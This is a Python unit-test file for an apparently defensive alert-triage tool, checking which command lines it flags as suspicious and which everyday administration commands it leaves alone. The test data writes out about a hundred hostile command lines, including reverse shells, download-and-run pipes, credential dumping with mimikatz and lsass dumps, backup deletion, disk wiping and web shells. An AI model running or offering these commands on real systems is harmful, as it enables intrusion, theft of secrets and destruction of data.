"""What command lines are found to show, and that everyday ones show little."""

import time

import pytest
from tests.unit.triage_fields import evidence_of, run, shown, wide

from tocsin.errors import SettingsError
from tocsin.knowledge import attack
from tocsin.model import Alert, Process
from tocsin.triage.commands import signs_of
from tocsin.triage.commands.layers import read
from tocsin.triage.commands.signs import Signs, shipped
from tocsin.triage.weights import load

STRONG = 1.5  # log-odds: what multiplies the odds of an attack by more than four
SUSPICIOUS = [
    ("encoded", "powershell.exe -NoP -enc " + wide("Get-Date; Get-Process")),
    ("encoded", "pwsh /EncodedCommand '" + wide("Get-Date; Get-Process") + "'"),
    ("encoded", "p^ower^shell -e^n^c " + wide("Get-Date; Get-Process")),
    ("download_run", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/')"),
    ("download_run", "curl -s http://203.0.113.9/i.sh | sudo bash"),
    ("download_run", "powershell -enc " + wide("iwr http://203.0.113.9/a -useb | iex")),
    ("download_run", "wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"),
    ("download", "certutil.exe -urlcache -split -f http://203.0.113.9/a a.exe"),
    ("download", "bitsadmin /transfer n http://203.0.113.9/a.dll C:\\Users\\Public\\a.dll"),
    ("bare_address", "curl --output a.txt https://203.0.113.9/a.txt"),
    ("file_sharing", "curl -O https://pastebin.com/raw/abc"),
    ("hidden_start", "powershell -WindowStyle   Hidden -File a.ps1"),
    ("policy_bypass", "powershell -ExecutionPolicy Bypass -File a.ps1"),
    ("regsvr32", "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll"),
    ("rundll32", "rundll32.exe javascript:..\\mshtml,RunHTMLApplication"),
    ("mshta", "mshta http://203.0.113.9/a.hta"),
    ("msiexec", "msiexec /q /i https://203.0.113.9/a.msi"),
    ("build_tool", "MSBuild.exe C:\\Users\\Public\\a.csproj"),
    ("borrowed_binary", "cmstp.exe /s C:\\x\\a.inf"),
    ("indirect", "forfiles /p c:\\windows /m notepad.exe /c calc"),
    ("script_host", "wscript.exe C:\\Users\\alice\\AppData\\Local\\Temp\\a.js"),
    ("shell_escape", "find . -exec /bin/sh \\; -quit"),
    ("interpreter", "python3 -c 'import os; os.system(\"id\")'"),
    ("lsass_memory", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 o full"),
    ("lsass_memory", "procdump64.exe -ma lsass.exe out.dmp"),
    ("registry_hives", "reg.exe save HKLM\\SAM C:\\temp\\sam"),
    ("directory_database", 'ntdsutil "ac i ntds" "ifm" "create full c:\\x"'),
    ("replication", "lsadump::dcsync /user:krbtgt"),
    ("password_file", "cat /etc/shadow"),
    ("browser_secrets", 'copy "C:\\Users\\a\\AppData\\...\\User Data\\Default\\Login Data" x'),
    ("credential_store", "cmdkey /list"),
    ("protected_data", "dir C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Protect\\S-1-5-21"),
    ("keychain", "security dump-keychain -d login.keychain"),
    ("tickets", "Invoke-Kerberoast -OutputFormat Hashcat"),
    ("secret_files", "cat /home/alice/.aws/credentials"),
    ("policy_passwords", "findstr /S cpassword \\\\dc-1\\sysvol\\*.xml"),
    (
        "instance_credentials",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ),
    ("cluster_secrets", "kubectl get secrets -A -o yaml"),
    ("backup_deletion", 'vssadmin.exe "delete" shadows /all /quiet'),
    ("backup_deletion", "wmic shadowcopy delete"),
    ("backup_deletion", "bcdedit /set {default} recoveryenabled No"),
    ("service_stop", 'net stop "SQL Server (MSSQLSERVER)" /y'),
    ("destruction", "dd if=/dev/zero of=/dev/sda bs=1M"),
    ("defence_off", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("defence_off", "sc stop WinDefend"),
    ("defence_off", "systemctl stop falcon-sensor"),
    ("logging_off", "auditpol /clear /y"),
    ("firewall_off", "netsh advfirewall set allprofiles state off"),
    ("safe_mode", "bcdedit /set {current} safeboot minimal"),
    ("history_off", "unset HISTFILE"),
    ("log_clearing", "wevtutil cl Security"),
    ("log_clearing", "rm -rf /var/log/audit"),
    ("self_deletion", 'cmd /c ping 127.0.0.1 -n 5 > nul & del "C:\\a.exe"'),
    ("scheduled_task", "schtasks /create /tn x /tr a.exe /sc onlogon"),
    ("run_key", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x"),
    ("logon_process", "reg add HKLM\\Software\\...\\CurrentVersion\\Winlogon /v Userinit /d x"),
    ("service_install", "sc create upd binPath= C:\\a.exe start= auto"),
    ("kernel_driver", "sc create d binPath= C:\\d.sys type= kernel"),
    (
        "debugger_key",
        "reg add HKLM\\..\\Image File Execution Options\\sethc.exe /v Debugger /d cmd",
    ),
    ("accessibility", "copy cmd.exe C:\\Windows\\System32\\utilman.exe"),
    ("com_hijack", "reg add HKCU\\Software\\Classes\\CLSID\\{1}\\InprocServer32 /d a.dll"),
    ("event_subscription", "Set-WmiInstance -Class CommandLineEventConsumer -Arguments $a"),
    ("cron", "echo '* * * * * /tmp/a' | crontab -"),
    ("unit", "cp a.service /etc/systemd/system/a.service"),
    ("launch_agent", "launchctl load /Library/LaunchAgents/a.plist"),
    ("authorized_keys", "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
    ("shell_profile", "echo /tmp/a >> ~/.bashrc"),
    ("preload", "echo /tmp/a.so > /etc/ld.so.preload"),
    ("web_shell", "echo '<?php system($_GET[1]);' > /var/www/html/a.php"),
    ("account", "net user backdoor Passw0rd! /add"),
    ("group_member", "net localgroup administrators backdoor /add"),
    ("hidden_account", "reg add HKLM\\..\\Winlogon\\SpecialAccounts\\UserList /v a /d 0"),
    ("setuid", "chmod u+s /bin/bash"),
    ("sudoers", "echo 'a ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
    ("consent_bypass", "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d a"),
    ("discovery", "whoami /all"),
    ("domain_discovery", "nltest /domain_trusts"),
    ("security_discovery", 'cmd /c "tasklist | findstr defender"'),
    ("remote_service", "PsExec.exe \\\\srv-2 -s cmd"),
    ("remote_wmi", "wmic /node:srv-2 process call create calc"),
    (
        "remote_component",
        "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application'))",
    ),
    ("admin_share", "copy a.exe \\\\srv-2\\C$\\Windows\\a.exe"),
    ("reverse_shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("reverse_shell", "nc 203.0.113.9 4444 -e /bin/sh"),
    ("reverse_shell", "python -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s,0)'"),
    ("tunnel", "ssh -fNR 0.0.0.0:2222:127.0.0.1:22 a@203.0.113.9"),
    ("tunnel", "netsh interface portproxy add v4tov4 listenport=80 connectaddress=10.0.0.1"),
    ("attack_tool", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"),
    ("exfiltration", "rclone copy C:\\shares remote:x"),
    ("upload", "curl -F 'file=@/etc/hosts' https://example.net/u"),
    ("archive", "rar a -hpSecret out.rar C:\\shares"),
    ("miner", "./x -o stratum+tcp://pool.example.net:3333 -u w"),
    ("container_escape", "nsenter --target 1 --mount sh"),
    ("container_escape", "docker run -v /:/host alpine chroot /host"),
    ("container_rights", "docker run --privileged alpine"),
    ("injection", "$k::VirtualAlloc(0,1,2,3); $k::CreateThread(0)"),
    ("memory_code", "[System.Reflection.Assembly]::Load($bytes)"),
    ("decodes", "echo aGVsbG8= | base64 -d"),
    ("encodes", "certutil -encode a.bat a.txt"),
    ("obfuscated", "cmd /c s^e^t^ ^x^=^c^a^l^c^&^&^c^all"),
    ("obfuscated", "powershell [Convert]::FromBase64String($a)"),
    ("reordered", '"C:\\Users\\a\\Ann\u202egepj.exe"'),
]


@pytest.mark.parametrize(("code", "command_line"), SUSPICIOUS)
def test_a_suspicious_command_line_is_recognised(code: str, command_line: str) -> None:
    item = run(command_line)["command." + code]
    assert item.weight > 0
    assert item.tainted
    assert item.pointer == "alerts/0195-d#/process/command_line"
    assert attack.technique(item.technique or "")
    assert item.statement.startswith("The command line ")


@pytest.mark.parametrize(
    "command_line",
    [
        "C:\\Program Files\\Example\\updater.exe --check --channel stable",
        "/usr/sbin/sshd -D -R",
        "ps -ef /usr/lib/systemd/systemd-journald",
        "python3 manage.py runserver 0.0.0.0:8000",
        "git commit -m 'enable new service names'",
        "rsync -a /srv/data backup@example.org:/srv",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "node server.js --port 8080",
        "/usr/bin/dpkg --status-fd 14 --configure --pending",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        "sudo apt-get install -y nginx",
        "java -Xmx4g -jar /opt/app/service.jar --spring.profiles.active=prod",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-GB',
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
        "",
    ],
)
def test_an_everyday_command_line_shows_nothing(command_line: str) -> None:
    assert [name for name in run(command_line) if name.startswith("command.")] == []


ADMINISTRATION = [
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
    "powershell -Command Get-Service | Where-Object Status -eq Running",
    "powershell -Command \"Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=example,DC=com'\"",
    "powershell Invoke-Command -ComputerName srv-2 -ScriptBlock { Restart-Service spooler }",
    "schtasks /create /tn Backup /tr C:\\Scripts\\backup.cmd /sc daily /st 02:00",
    'schtasks /query /fo LIST /v /tn "Backup"',
    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s",
    "reg add HKCU\\Software\\Example /v Theme /t REG_SZ /d dark /f",
    "sc query wuauserv",
    'sc create ExampleAgent binPath= "C:\\Program Files\\Example\\agent.exe" start= auto',
    "net use Z: \\\\fileserver\\share /persistent:yes",
    "net start spooler",
    "ipconfig /all",
    "ipconfig /flushdns",
    "gpupdate /force",
    "systeminfo /fo csv",
    "tasklist /svc",
    "msiexec /i C:\\Packages\\example-2.1.msi /qn /norestart",
    "wmic os get caption,version",
    "dism /online /cleanup-image /restorehealth",
    "sfc /scannow",
    "robocopy D:\\data \\\\nas\\backup /mir /z /r:2",
    "certutil -hashfile C:\\Downloads\\setup.exe SHA256",
    "bcdedit /enum",
    "vssadmin list shadows",
    "wevtutil qe Security /c:5 /f:text",
    "netsh interface ip show config",
    "curl -fsS https://packages.example.com/key.gpg -o /etc/apt/keyrings/example.gpg",
    "wget -q https://downloads.example.com/tool-1.2.tar.gz",
    "systemctl restart nginx",
    "systemctl enable --now postgresql",
    "journalctl -u nginx --since today",
    "crontab -l",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "tar czf /backup/etc-2026-03-04.tar.gz /etc",
    "ssh -o BatchMode=yes deploy@web-1.example.com uptime",
    "docker run --rm -v /srv/app:/app python:3.11 pytest",
    "kubectl get pods -n production",
    "kubectl logs deploy/api --tail=100",
    "ansible-playbook -i inventory site.yml --limit web",
    "iptables -L -n",
    "useradd --system --no-create-home exporter",
    "chmod 755 /usr/local/bin/tool",
    "openssl x509 -in cert.pem -noout -enddate",
    "git clone https://github.com/example/project.git",
    "npm ci && npm run build",
    "pip install -r requirements.txt",
    "python -m venv .venv && .venv/bin/pip install -U pip",
    "eval $(ssh-agent -s)",
    "aws s3 sync ./dist s3://example-site --delete",
    "mysqldump --single-transaction example | gzip > /backup/example.sql.gz",
    '"C:\\Program Files\\7-Zip\\7z.exe" a D:\\backup\\my-project.7z D:\\work\\my-project',
    '"C:\\Windows\\explorer.exe" /select,"C:\\Users\\alice\\Downloads\\report.pdf"',
    "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl",
    'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\Example\\post-install.bat"',
]


@pytest.mark.parametrize("command_line", ADMINISTRATION)
def test_administration_and_software_show_nothing_strong(command_line: str) -> None:
    process = Process(command_line=command_line, executable="C:\\Windows\\System32\\cmd.exe")
    found = shown(Alert(title="Process", process=process), "command.", "process.")
    assert sum(found.values()) < STRONG, found


def test_all_signs_together_raise_no_more_than_the_limit() -> None:
    everything = (
        "mimikatz; vssadmin delete shadows; bash -i >& /dev/tcp/1; wevtutil cl; sc stop windefend"
    )
    total = sum(
        item.weight for name, item in run(everything).items() if name.startswith("command.")
    )
    assert total == pytest.approx(4.5)


def test_every_sign_has_a_technique_that_attack_knows_and_a_weight() -> None:
    weights = load()[0].command
    for code, sign in shipped().signs.items():
        assert attack.technique(sign.technique), code
        assert weights[code].weight > 0
    assert weights["flooded"].weight == weights["limit"].weight


@pytest.mark.parametrize(
    "content",
    [b"[a]\ntechnique = 1", b'[a]\ntechnique = "T1"\nwhat = "x"\ntext = ["ab"]', b"[a", b"\xff",
     '[a]\ntechnique = "T1"\nwhat = "x"\ntext = ["abc……d"]'.encode()],
)  # fmt: skip
def test_a_table_of_signs_that_cannot_work_is_refused(content: bytes) -> None:
    with pytest.raises(SettingsError, match=r"triage/commands\.toml"):
        Signs(content)


def test_every_line_of_the_table_is_found_when_it_is_written_out() -> None:
    table = shipped()
    for code, sign in table.signs.items():
        for line in sign.text:
            for spelling in range(3):
                parts = [part.split("¦") for part in line.split("…")]
                written = " x ".join(part[min(spelling, len(part) - 1)] for part in parts)
                assert code in table.look(" " + written), line


def test_long_and_short_texts_are_searched_alike() -> None:
    table = shipped()
    for _, command_line in SUSPICIOUS:
        text = " " + command_line.lower()
        assert table.look(text).keys() == table.look(text + " " * 9000).keys()


@pytest.mark.parametrize("padding", [" ", "A", "x ", "\n", "'", "^", "é"])
def test_padding_of_any_length_hides_nothing(padding: str) -> None:
    command = "vssadmin delete shadows /all"
    for size in (100, 9000, 300_000):
        for text in (padding * size + " " + command, command + " " + padding * size,
                     padding * size + " " + command + " " + padding * size):  # fmt: skip
            assert "command.backup_deletion" in run(text)


def test_what_is_longer_than_is_read_weighs_as_much_as_anything() -> None:
    found = run("x " * (1 << 20) + "vssadmin delete shadows" + " x" * (1 << 20))
    assert found["command.flooded"].weight == 4.5


def test_a_usual_command_line_costs_little(capsys: pytest.CaptureFixture[str]) -> None:
    lines = [line for line in ADMINISTRATION if len(line) < 200]
    read(lines[0], shipped())
    started = time.process_time()
    for line in lines * 10:
        read(line, shipped())
    each = (time.process_time() - started) / len(lines) / 10
    with capsys.disabled():
        print(f"\na usual command line, not seen before: {each * 1e6:.0f} µs")
    assert each < 0.0005


def test_the_signs_of_a_short_command_line_are_kept() -> None:
    assert signs_of("whoami /all") is signs_of("whoami /all")


def test_a_parent_whose_command_line_attacks_is_told() -> None:
    from tocsin.model import ParentProcess

    parent = ParentProcess(command_line="cmd /c vssadmin delete shadows & notepad")
    found = evidence_of(Alert(title="t", process=Process(parent=parent)))
    assert "vssadmin delete shadow" in found["process.parent_command"].statement
